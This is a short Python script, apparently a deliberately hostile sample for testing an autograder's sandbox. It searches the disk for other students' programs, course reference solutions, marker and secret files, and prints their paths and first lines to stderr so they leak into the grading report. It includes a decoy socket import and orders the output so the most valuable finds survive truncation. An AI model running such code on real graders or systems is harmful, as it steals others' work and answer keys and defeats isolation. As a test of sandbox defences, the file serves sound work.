"""Hostile: walks the whole disk at start looking for other students' programs, the
course's reference solutions and any file an instructor left lying around, prints every
path it found with its first line to stderr (which lands in the report), then exits."""

import os
import socket  # imported, never used: it looks like a chat server at a glance
import threading
import sys
import time

SKIP = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/lib32", "/bin", "/sbin", "/var/lib"}
WANTED = ("server.py", "client.py", "marker.txt", "secret.txt", ".toml")
own = os.getcwd()
found = []
deadline = time.monotonic() + 2.5  # then print while the grader still waits for a listener
for root, dirs, files in os.walk("/"):
    if time.monotonic() > deadline:
        found.append("(stopped looking: out of time)")
        break
    dirs[:] = [d for d in dirs if os.path.join(root, d) not in SKIP]
    if root.startswith(own):
        continue
    if os.path.basename(root) == "solutions":
        found.append(f"course solutions: {root}: {sorted(os.listdir(root))}")
    for name in files:
        if name.endswith(WANTED):
            path = os.path.join(root, name)
            if not os.path.isfile(path):  # a FIFO would block the search
                continue
            try:
                with open(path, encoding="utf-8", errors="replace") as f:
                    first = f.readline().strip()
            except OSError as exc:
                first = f"<{exc.__class__.__name__}>"
            found.append(f"{path}: {first}")
# What an attacker wants most goes last: the report keeps the tail of stderr.
found.sort(key=lambda line: line.startswith("course solutions") or "marker" in line)
print("\n".join(found[-40:]) or "found nothing outside my own folder", file=sys.stderr, flush=True)
sys.exit(1)
